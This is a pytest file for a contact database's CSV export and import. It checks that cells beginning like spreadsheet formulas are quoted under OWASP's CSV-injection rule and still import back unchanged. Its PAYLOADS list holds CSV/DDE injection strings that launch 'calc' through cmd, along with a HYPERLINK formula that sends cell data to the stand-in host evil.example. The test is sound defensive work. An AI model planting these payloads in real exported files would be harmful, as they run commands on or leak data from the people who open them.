"""CSV export follows OWASP's CSV-injection rule for every cell, and what it quotes comes back
unchanged through import (a phone number like ``+34 911 234 567`` included). A leading tab or
CR never reaches the store (text fields are trimmed), so it cannot lead an exported cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gateway.store.csv_io import export_csv, import_csv
from gateway.store.db import Database
from gateway.store.models import PersonType
from gateway.store.repositories import PersonRepository

PAYLOADS = [
    "-2+3+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # fullwidth = : some spreadsheets fold it to ASCII
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=already quoted",  # a value that really starts with a quote keeps it
    "-",
]


async def _export(db: Database) -> list[dict[str, str]]:
    out = io.StringIO()
    await export_csv(db, "contacts", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_formula_cell_is_exported_quoted_and_imports_back_as_it_was(
    db: Database, tmp_path: Path, payload: str
) -> None:
    await PersonRepository(db).create(
        PersonType.CONTACT, {"name": "Ana", "company": payload, "title": payload}
    )
    out = io.StringIO()
    await export_csv(db, "contacts", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["company"] == "'" + payload
    assert row["title"] == "'" + payload
    again = await Database.open(tmp_path / "again.db")
    try:
        report = await import_csv(again, out.getvalue(), "contacts")
        assert report.errors == []
        (person,) = (await PersonRepository(again).list(limit=10)).items
        assert (person.company, person.title) == (payload, payload)
    finally:
        await again.close()


async def test_no_exported_cell_starts_like_a_formula(db: Database) -> None:
    await PersonRepository(db).create(
        PersonType.CONTACT,
        {"first_name": "-2+3", "last_name": "+cmd", "company": "@x", "phone": "+34 911 234 567"},
    )
    for row in await _export(db):
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", (column, cell)


async def test_a_phone_number_with_its_plus_survives_export_and_import(
    db: Database, tmp_path: Path
) -> None:
    await PersonRepository(db).create(
        PersonType.CONTACT,
        {"name": "Ana", "phones": [{"number": "+34 911 234 567", "type": "work"}]},
    )
    out = io.StringIO()
    await export_csv(db, "contacts", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["work_phone"] == "'+34 911 234 567"  # a spreadsheet shows the text, not =+34...
    again = await Database.open(tmp_path / "again.db")
    try:
        assert (await import_csv(again, out.getvalue(), "contacts")).errors == []
        (person,) = (await PersonRepository(again).list(limit=10)).items
        assert [(p.raw, p.e164) for p in person.phones] == [("+34 911 234 567", "+34911234567")]
    finally:
        await again.close()
